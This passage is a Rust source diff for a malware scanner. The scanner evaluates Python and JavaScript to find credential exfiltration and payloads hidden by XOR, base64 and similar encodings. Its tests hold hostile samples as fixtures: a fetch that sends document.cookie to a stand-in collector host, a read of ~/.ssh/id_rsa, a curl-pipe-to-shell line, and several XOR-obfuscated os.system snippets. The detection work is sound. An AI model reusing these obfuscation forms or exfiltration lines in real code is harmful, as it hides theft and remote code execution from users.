+                    }
+                    _ => return,
+                }
+            } else if value.number.is_some() || value.known_text().is_some() {
+                if codes.len() >= MAX_SEQUENCE {
+                    return;
+                }
+                codes.push(value);
+            } else {
+                return;
+            }
+        }
+        let at = first_offset(added).unwrap_or(0);
+        let mut result = if as_text {
+            let mut out = Value::text(text.clone());
+            out.via = via;
+            self.scan_derived(&text, via, at);
+            out
+        } else if before.bytes.is_some() {
+            let Some(bytes) = codes
+                .iter()
+                .map(|v| v.code().and_then(|c| u8::try_from(c).ok()))
+                .collect::<Option<Vec<u8>>>()
+            else {
+                return;
+            };
+            self.scan_derived_bytes(&bytes, via, at);
+            let mut out = Value::from_bytes(bytes);
+            out.via = via;
+            out
+        } else {
+            Value::of_sequence(codes, via)
+        };
+        if let Some(abstract_value) = self.lookup(name) {
+            result.carry(&abstract_value.all_secrets());
+        }
+        let scope = self.scopes.last_mut().expect("a scope");
+        scope.insert(name.to_owned(), result);
+    }
+
+    /// Text that XOR, a permutation or a reversal computed from constants: scanned like
+    /// source (once per text).
+    fn scan_derived(&mut self, text: &str, via: Option<&'static str>, at: usize) {
+        let Some(via) = via else { return };
+        if text.chars().count() < MIN_DERIVED_CHARS {
+            return;
+        }
+        let key = {
+            use std::hash::{Hash as _, Hasher as _};
+            let mut hasher = std::collections::hash_map::DefaultHasher::new();
+            text.hash(&mut hasher);
+            hasher.finish()
+        };
+        if self.scanned.len() < MAX_ITEMS * MAX_ITEMS && self.scanned.insert(key) {
+            text::scan_decoded(text.as_bytes(), via, at, self.sink);
+        }
+    }
+
+    fn scan_derived_bytes(&mut self, bytes: &[u8], via: Option<&'static str>, at: usize) {
+        if let Ok(text) = std::str::from_utf8(bytes) {
+            self.scan_derived(text, via, at);
+        }
+    }
+
+    /// Calls `function` (a function of the file, or a builtin such as `chr`) with `args`.
+    fn apply(&mut self, function: &Value, args: Vec<Value>) -> Value {
+        if let Some(helper) = &function.function {
+            let args: Vec<(Option<&str>, Value)> = args.into_iter().map(|v| (None, v)).collect();
+            return self.follow(helper.clone(), &args);
+        }
+        let role = function.name.as_deref().and_then(|n| model(self.lang, n));
+        match (role, args.first()) {
+            (Some(Role::Chr), Some(arg)) => chr(arg),
+            (Some(Role::Ord), Some(arg)) => ord(arg),
+            (_, Some(arg)) => Value::unknown_carrying(arg.all_secrets()),
+            _ => Value::default(),
+        }
+    }
+
     /// Evaluates a helper's body with the call's arguments bound to its parameters.
     fn follow(&mut self, function: Rc<Function>, args: &[(Option<&str>, Value)]) -> Value {
         let id = Rc::as_ptr(&function);
@@ -1081,14 +1863,15 @@ impl Interp<'_, '_> {
             scope.insert(param.clone(), value);
         }
         self.calls.push(id);
+        self.followed.insert(id);
         self.scopes.push(scope);
-        self.returns.push(Value::default());
+        self.returns.push(None);
         let weak = std::mem::replace(&mut self.weak, 0);
         self.block(&function.body);
         self.weak = weak;
         self.scopes.pop();
         self.calls.pop();
-        self.returns.pop().unwrap_or_default()
+        self.returns.pop().flatten().unwrap_or_default()
     }
 
     /// A request (or DNS lookup) to `address` carrying `secrets`.
@@ -1122,9 +1905,11 @@ impl Interp<'_, '_> {
                     } else {
                         format!("to {shown_host}")
                     };
-                    self.sink.emit(
+                    self.sink.emit_flow(
                         rules::CRED_EXFILTRATION,
                         at,
+                        secret.at,
+                        &secret.what,
                         format!("sends the content of {}{from} {how}", secret.what),
                         Some(shown_host.clone()),
                     );
@@ -1137,9 +1922,11 @@ impl Interp<'_, '_> {
                         Some(url.as_str()),
                     );
                     if let Some(why) = why {
-                        self.sink.emit(
+                        self.sink.emit_flow(
                             rules::CRED_IN_REQUEST,
                             at,
+                            secret.at,
+                            &format!("${}", secret.what),
                             format!("sends ${}{from} {why}", secret.what),
                             Some(shown_host.clone()),
                         );
@@ -1148,6 +1935,21 @@ impl Interp<'_, '_> {
             }
         }
     }
+}
+
+/// An integer literal as Python, JavaScript and PowerShell write it (`66`, `0x42`, `0o7`,
+/// `0b101`, `1_000`); `None` for anything else (floats, overflow).
+pub(crate) fn parse_int(literal: &str) -> Option<i64> {
+    let digits: String = literal.chars().filter(|&c| c != '_').collect();
+    let lower = digits.to_ascii_lowercase();
+    let lower = lower.trim_end_matches('n');
+    let (radix, rest) = match lower.get(..2) {
+        Some("0x") => (16, &lower[2..]),
+        Some("0o") => (8, &lower[2..]),
+        Some("0b") => (2, &lower[2..]),
+        _ => (10, lower),
+    };
+    i64::from_str_radix(rest, radix).ok()
 }
 
 /// The character a string escape (`\n`, `\x41`, `\u{1F600}`) stands for, as Python and
@@ -1170,7 +1972,8 @@ pub(crate) fn unescape(escape: &str) -> String {
     }
 }
 
-/// Decoded constant text (base64 or hex); unknown input stays unknown.
+/// Decoded constant text (base64 or hex); unknown input stays unknown. The bytes are kept
+/// when there is one input (a XOR key or marshal data need not be text).
 fn decode(role: Role, input: &Value, secrets: Vec<Secret>) -> Value {
     let mut out = Value::unknown_carrying(secrets);
     for text in &input.texts {
@@ -1185,7 +1988,56 @@ fn decode(role: Role, input: &Value, secrets: Vec<Secret>) -> Value {
             out.texts.push(decoded);
         }
     }
+    if let Some(text) = input.known_text() {
+        let bytes = if role == Role::Base64 {
+            text::decode_base64_bytes(text)
+        } else {
+            text::decode_hex(text.trim())
+        };
+        out.bytes = bytes.map(Rc::new);
+    }
     out
+}
+
+/// The character of a code (`chr`, `[char]`).
+fn chr(code: &Value) -> Value {
+    match code
+        .code()
+        .and_then(|c| u32::try_from(c).ok())
+        .and_then(char::from_u32)
+    {
+        Some(c) => Value {
+            via: code.via,
+            ..Value::text(c.to_string())
+        },
+        None => Value::unknown_carrying(code.all_secrets()),
+    }
+}
+
+/// The code of a character (`ord`).
+fn ord(character: &Value) -> Value {
+    match character.code() {
+        Some(n) if character.number.is_none() => Value {
+            via: character.via,
+            ..Value::number(n)
+        },
+        _ => Value::unknown_carrying(character.all_secrets()),
+    }
+}
+
+/// The offset of the first call in an expression (where a loop's result is reported).
+fn first_offset(expr: &Expr) -> Option<usize> {
+    match expr {
+        Expr::Call { at, .. } => Some(*at),
+        Expr::Xor(a, b) | Expr::Slash(a, b) | Expr::Percent(a, b) | Expr::Index(a, b) => {
+            first_offset(a).or_else(|| first_offset(b))
+        }
+        Expr::Attr(inner, _) | Expr::EnvVar(inner) => first_offset(inner),
+        Expr::Concat(parts) | Expr::Either(parts) | Expr::Opaque(parts) => {
+            parts.iter().find_map(first_offset)
+        }
+        _ => None,
+    }
 }
 
 /// Whether an `open(path, mode)` call writes rather than reads.
@@ -1201,6 +2053,14 @@ fn mode_writes(values: &[(Option<&str>, Value)]) -> bool {
             .iter()
             .any(|t| t.len() <= 4 && t.contains(['w', 'a', 'x']))
     })
+}
+
+/// Two values as a pair (what `enumerate` and `zip` yield).
+fn pair(a: Value, b: Value) -> Value {
+    let mut out = Value::default();
+    out.push_item(a);
+    out.push_item(b);
+    out
 }
 
 fn join_items(items: &Value, separator: &Value, secrets: Vec<Secret>) -> Value {
@@ -1263,7 +2123,7 @@ mod tests {
         }
     }
 
-    fn rules_of(lang: Lang, body: &[Stmt]) -> (Vec<&'static str>, u32) {
+    fn rules_of(lang: Lang, body: &[Stmt]) -> (Vec<rules::RuleId>, u32) {
         let text = "x\n".repeat(8);
         let mut sink = Sink::new("f", &text).with_shell(crate::scan::shell::scan);
         let steps = run(lang, body, &mut sink);
@@ -1333,6 +2193,47 @@ mod tests {
     }
 
     #[test]
+    fn a_function_nobody_calls_is_run_for_its_flows_not_its_reads() {
+        // function init() { fetch("https://collect.example.net/c", {body: document.cookie}) }
+        // — called from an SVG's onload= attribute, never from the script itself.
+        let handler = Rc::new(Function {
+            name: "init".into(),
+            params: vec![],
+            body: vec![Stmt::Eval(call(
+                "fetch",
+                vec![
+                    Expr::Str("https://collect.example.net/c".into()),
+                    Expr::Attr(Box::new(Expr::Var("document".into())), "cookie".into()),
+                ],
+            ))],
+        });
+        let (rules, _) = rules_of(Lang::JavaScript, &[Stmt::Def(handler)]);
+        assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+
+        // def load(): return open("~/.ssh/id_rsa").read() — a read that goes nowhere here.
+        let reader = || {
+            Rc::new(Function {
+                name: "load".into(),
+                params: vec![],
+                body: vec![Stmt::Return(call(
+                    "open",
+                    vec![Expr::Str("~/.ssh/id_rsa".into())],
+                ))],
+            })
+        };
+        let (uncalled, _) = rules_of(Lang::Python, &[Stmt::Def(reader())]);
+        assert!(
+            !uncalled.contains(&rules::CRED_SENSITIVE_PATH),
+            "{uncalled:?}"
+        );
+        let (called, _) = rules_of(
+            Lang::Python,
+            &[Stmt::Def(reader()), Stmt::Eval(call("load", vec![]))],
+        );
+        assert!(called.contains(&rules::CRED_SENSITIVE_PATH), "{called:?}");
+    }
+
+    #[test]
     fn base32_and_base85_payloads_are_decoded_and_scanned() {
         // "curl -s http://203.0.113.9/x | sh" in three encodings, each decoded at run time.
         let cases = [
@@ -1388,6 +2289,41 @@ mod tests {
         assert!(!own.contains(&rules::CRED_IN_REQUEST), "{own:?}");
         let (other, _) = rules_of(Lang::Python, &send("https://collector.example/v1"));
         assert!(other.contains(&rules::CRED_IN_REQUEST), "{other:?}");
+    }
+
+    /// XOR with a literal key in the forms code uses, a honest XOR checksum, and a reversal.
+    #[test]
+    fn xor_forms_are_decoded_and_a_checksum_is_not_a_payload() {
+        let scan = |source: &str| -> Vec<rules::RuleId> {
+            let mut sink = Sink::new("a.py", source).with_shell(crate::scan::shell::scan);
+            crate::scan::python::scan(source, 0, &mut sink);
+            sink.finish().0.iter().map(|f| f.rule).collect()
+        };
+        let forms = [
+            // A key cycled by index over base64-decoded bytes.
+            "import base64, os\nKEY = b'k3y'\nBLOB = base64.b64decode('CEYLBxNUGBMRH0cJURxWWQNKRQNXWgJKRQpWExMFS0AR')\nos.system(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(BLOB)).decode())\n",
+            // zip with itertools.cycle.
+            "import base64, itertools, os\nBLOB = base64.b64decode('CEYLBxNUGBMRH0cJURxWWQNKRQNXWgJKRQpWExMFS0AR')\nos.system(bytes(a ^ b for a, b in zip(BLOB, itertools.cycle(b'k3y'))).decode())\n",
+            // A bytearray filled by a loop.
+            "import os\nout = bytearray()\nfor b in [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 24, 26, 25, 4, 26, 4, 27, 27, 25, 4, 19, 5, 82, 10, 86, 10, 89, 66]:\n    out.append(b ^ 42)\nos.system(out.decode())\n",
+            // chr of each code, joined.
+            "import os\nos.system(''.join(map(lambda c: chr(c ^ 42), [73, 95, 88, 70, 10, 7, 89, 10, 66, 94, 94, 90, 16, 5, 5, 24, 26, 25, 4, 26, 4, 27, 27, 25, 4, 19, 5, 82, 10, 86, 10, 89, 66])))\n",
+        ];
+        for form in forms {
+            let rules = scan(form);
+            assert!(
+                rules.contains(&rules::EXEC_PIPE_TO_SHELL_RAW),
+                "{form}: {rules:?}"
+            );
+            assert!(
+                rules.contains(&rules::OBF_ENCODED_PAYLOAD),
+                "{form}: {rules:?}"
+            );
+        }
+        // A checksum XORs numbers too; what it computes is not text, and nothing is reported.
+        let checksum =
+            "import os\ncheck = 0\nfor b in [1, 2, 3, 4]:\n    check = check ^ b\nprint(check)\n";
+        assert!(!scan(checksum).contains(&rules::OBF_ENCODED_PAYLOAD));
     }
 
     /// The work bound: helpers called from everywhere, loops nested deep and values that
